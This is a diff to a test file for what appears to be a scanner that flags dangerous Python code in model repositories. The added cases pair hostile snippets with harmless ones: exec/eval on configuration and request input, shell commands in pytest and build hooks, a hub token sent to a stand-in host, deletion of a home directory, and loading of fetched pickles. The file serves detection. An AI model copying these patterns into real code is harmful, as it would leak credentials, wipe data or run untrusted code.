@@ -280,7 +280,8 @@ describe('code of a model that takes what it runs from elsewhere blocks, and its
     ['a search by dir', 'import os\nf = [n for n in dir(os) if n.endswith("tem")][0]\ngetattr(os, f)("id")', 'import os\nf = getattr(os, "cpu_count")()'],
     ['a search through names', 'import os\nfor k, v in os.__dict__.items():\n    v("id")', 'import os\nfor k, v in os.environ.items():\n    print(v)'],
     ['a function that data names', 'import importlib, json\nc = json.load(open("c.json"))\ngetattr(importlib.import_module(c["m"]), c["f"])(c["a"])', 'import importlib\ngetattr(importlib.import_module("math"), "sqrt")(2)'],
-    ['a text of the configuration', 'class X:\n    def __init__(self, config):\n        exec(config.act)\n', 'class X:\n    def __init__(self, config):\n        self.act = eval(config.act)\n'],
+    ['a text of the configuration', 'class X:\n    def __init__(self, config):\n        exec(config.act)\n', 'class X:\n    def __init__(self, config):\n        self.act = getattr(F, config.act)\n'],
+    ['an expression of the configuration', 'class X:\n    def __init__(self, config):\n        self.act = eval(config.act)\n', 'class X:\n    def __init__(self, width):\n        self.act = eval(width)\n'],
     ['sys.modules.get', 'import sys\ngetattr(sys.modules.get("o" + "s"), "pop" + "en")("id")', 'import sys\nm = sys.modules.get("torch")'],
     ['code of a file', 'import types\nc = compile(open("v.txt").read(), "x", "exec")\ntypes.FunctionType(c, globals())()', 'import types\nf = types.FunctionType((lambda: 1).__code__, globals())'],
     ['the C interface', 'import ctypes\nctypes.pythonapi.PyRun_SimpleString(b"import os")', 'import ctypes\nctypes.pythonapi.PyThreadState_SetAsyncExc(1, None)'],
@@ -297,5 +298,31 @@ describe('code of a model that takes what it runs from elsewhere blocks, and its
   ])('%s', (_, hostile, honest) => {
     expect(['critical', 'high']).toContain(worst(hostile, 'modeling_x.py'));
     expect(['critical', 'high']).not.toContain(worst(honest, 'modeling_x.py'));
+  }); // prettier-ignore
+});
+
+describe('what reaches a call blocks by who calls it and by where its arguments come from', () => {
+  it.each([
+    ['a thread with its arguments', 'modeling_x.py', 'import threading, urllib.request\nclass X:\n    def forward(self, x):\n        threading.Thread(target=urllib.request.urlopen, args=("https://x.invalid/a",)).start()\n', 'import threading\nclass X:\n    def forward(self, x):\n        threading.Thread(target=self.step, args=(x,)).start()\n'],
+    ['a function whose code is replaced', 'a.py', 'import os\ndef f(): pass\ndef g(): os.system("touch /tmp/a")\nf.__code__ = g.__code__\nf()\n', 'import os\ndef f(): pass\ndef g(): os.system("touch /tmp/a")\nf.__name__ = g.__name__\nf()\n'],
+    ['a name that is put among those of the module', 'a.py', 'globals()["run"] = exec\nrun("import os; os.system(\'touch /tmp/a\')")\n', 'globals()["run"] = print\nrun("import os; os.system(\'touch /tmp/a\')")\n'],
+    ['an item that is put into a dictionary', 'a.py', 'import os\nd = {}\nd["x"] = os.system\nd["x"]("touch /tmp/a")\n', 'import os\nd = {}\nd["x"] = os.getcwd\nd["x"]()\n'],
+    ['a name that a function binds in the module', 'a.py', 'def f():\n    global s\n    from os import system as s\nf()\ns("touch /tmp/a")\n', 'def f():\n    global s\n    from os import getcwd as s\nf()\ns()\n'],
+    ['a file that was fetched', 'modeling_x.py', 'import torch, urllib.request\nclass X:\n    def __init__(self):\n        urllib.request.urlretrieve(self.url, "extra.pt")\n        self.w = torch.load("extra.pt", weights_only=False)\n', 'import torch, urllib.request\nclass X:\n    def __init__(self):\n        urllib.request.urlretrieve(self.url, "extra.pt")\n        self.w = torch.load("extra.pt", weights_only=True)\n'],
+    ['a layer of Keras, under any name of a file', 'parts.py', 'import keras, os\nclass L(keras.layers.Layer):\n    def __init__(self, hook):\n        os.system(hook)\n', 'import os\nclass L:\n    def __init__(self, hook):\n        os.system(hook)\n'],
+    ['a script that loads a data set', 'parts.py', 'import datasets, os\nclass D(datasets.GeneratorBasedBuilder):\n    def _split_generators(self, m):\n        os.system("touch /tmp/a")\n', 'import datasets, os\nclass D(datasets.GeneratorBasedBuilder):\n    def _split_generators(self, m):\n        return m.download_and_extract("https://huggingface.co/a")\n'],
+    ['a hook of pytest', 'plugin.py', 'import subprocess\ndef pytest_configure(config):\n    subprocess.run(["bash", "-c", "touch /tmp/a"])\n', 'import subprocess\ndef pytest_configure(config):\n    subprocess.run(["git", "rev-parse", "HEAD"])\n'],
+    ['a hook of a build', 'backend.py', 'import os\ndef build_wheel(d, config_settings=None):\n    os.system("touch /tmp/a")\n', 'import os\ndef make_wheel(d, config_settings=None):\n    os.system("touch /tmp/a")\n'],
+    ['what a request holds', 'app.py', 'from flask import Flask, request\napp = Flask("a")\n@app.route("/")\ndef f():\n    return str(eval(request.args["q"]))\n', 'import ast\nfrom flask import Flask, request\napp = Flask("a")\n@app.route("/")\ndef f():\n    return str(ast.literal_eval(request.args["q"]))\n'],
+    ['what is typed into an interface', 'app.py', 'import gradio as gr, subprocess\ndef run(command):\n    return subprocess.check_output(command, shell=True)\ngr.Interface(run, "text", "text").launch()\n', 'import gradio as gr, subprocess\ndef run(path):\n    return subprocess.check_output(["ffmpeg", "-i", path])\ngr.Interface(run, "text", "text").launch()\n'],
+    ['the token of the hub', 'modeling_x.py', 'import requests\nfrom huggingface_hub import get_token\nclass X:\n    def from_pretrained(self):\n        requests.get("https://x.invalid/a", headers={"X": get_token()})\n', 'import requests\nfrom huggingface_hub import get_token\nclass X:\n    def from_pretrained(self):\n        requests.get("https://huggingface.co/api", headers={"X": get_token()})\n'],
+    ['an upload', 'modeling_x.py', 'from huggingface_hub import HfApi\nHfApi().upload_file(path_or_fileobj="a", path_in_repo="a", repo_id="x/y")\n', 'from huggingface_hub import HfApi\nHfApi().model_info("x/y")\n'],
+    ['a package that nobody knows', 'modeling_x.py', 'import os\nos.system("pip install orca-kernels")\n', 'import os\nos.system("pip install flash-attn")\n'],
+    ['machine code in a directory for everybody', 'modeling_x.py', 'import ctypes, tempfile\nctypes.CDLL(tempfile.mkdtemp() + "/a.so")\n', 'import ctypes, os\nctypes.CDLL(os.path.join(os.path.dirname(__file__), "a.so"))\n'],
+    ['all that lies in a home', 'handler.py', 'from pathlib import Path\nclass E:\n    def __init__(self, path):\n        for p in Path.home().rglob("*"):\n            p.unlink()\n', 'from pathlib import Path\nclass E:\n    def __init__(self, path):\n        for p in Path(path).rglob("*"):\n            p.stat()\n'],
+    ['an example that doctest runs', 'a.py', '"""\n>>> import os\n>>> os.system("touch /tmp/a")\n"""\nimport doctest\ndoctest.testmod()\n', '"""\n>>> import os\n>>> os.system("touch /tmp/a")\n"""\n'],
+  ])('%s', (_, path, hostile, honest) => {
+    expect(['critical', 'high']).toContain(worst(hostile, path));
+    expect(['critical', 'high']).not.toContain(worst(honest, path));
   }); // prettier-ignore
 });
